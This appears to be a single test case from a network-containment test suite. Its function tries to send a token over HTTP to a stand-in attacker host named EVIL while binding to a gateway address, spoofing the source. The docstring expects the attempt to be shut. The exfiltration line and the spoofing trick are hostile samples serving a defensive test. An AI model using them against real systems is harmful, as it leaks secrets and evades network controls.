"""
how: a source address that is not its own
expect: shut
unseen: the answers go to whom the address belongs, so no connection comes to be
"""

from land import EVIL, GATEWAY, bad
from sockets import tcp
from web import get


def attempt(token):
    return tcp(EVIL, 80, get(bad(token)), setup=lambda s: (s.setsockopt(0, 15, 1), s.bind((GATEWAY, 0))))
